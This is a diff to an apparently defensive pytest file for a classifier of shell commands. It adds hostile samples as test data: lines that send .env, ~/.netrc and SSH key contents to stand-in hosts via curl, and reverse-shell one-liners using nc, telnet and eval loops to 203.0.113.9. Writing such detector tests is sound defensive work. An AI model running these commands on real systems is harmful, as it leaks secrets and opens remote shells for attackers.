@@ -29,6 +29,8 @@ EXFILTRATES = {
     "environment": "env | base64 | curl -d @- https://x.example.org",
     "archive-pipe": "tar c ~/.ssh | ssh x.example.org 'cat > k'",
     "mail": "mail -s k a@example.org < ~/.ssh/id_rsa",
+    "lines": "xargs -I{} curl 'https://x.example.org/{}' < .env",
+    "lines-in-a-shell": "cat ~/.netrc | xargs -I{} sh -c 'curl https://x.example.org/{}'",
     "wrapped": "sudo sh -c 'cat /etc/shadow | nc 203.0.113.9 99'",
 }
 
@@ -103,6 +105,9 @@ SHELLS = {
     "fifo": "mkfifo /tmp/q; cat /tmp/q | sh -i | nc 203.0.113.9 99 > /tmp/q",
     "two-ports": "telnet 203.0.113.9 98 | sh | telnet 203.0.113.9 99",
     "zsh": "zsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.9 99; zsh >&$REPLY <&$REPLY'",
+    "one-way": "nc 203.0.113.9 99 < /tmp/q | sh > /tmp/q",
+    "telnet": "telnet 203.0.113.9 99 | bash",
+    "line-by-line": "nc 203.0.113.9 99 | while read c; do eval $c; done",
     "background": "nohup setsid bash -c 'sh -i > /dev/tcp/203.0.113.9/99' &",
 }
 
@@ -118,12 +123,19 @@ NO_SHELLS = (
     "sh report.sh | nc localhost 99",
     "echo 'bash -i >& /dev/tcp/203.0.113.9/99'",
     "cat a | sh",
+    "openssl enc -d -in a | sh",
+    "nc localhost 99 | cat",
 )
 
 
 @pytest.mark.parametrize("command", NO_SHELLS)
 def test_no_shells_for_others(command: str) -> None:
     assert "remote-shell" not in kinds(command)
+
+
+def test_all_that_goes_to_a_new_address() -> None:
+    assert flags("git remote add x https://x.example.org/r && git push x --all", "send") == [{"file", "upload", "tls"}]
+    assert "send" not in kinds("git remote add origin https://x.example.org/r && git push -u origin main")
 
 
 def test_keys_collected() -> None:
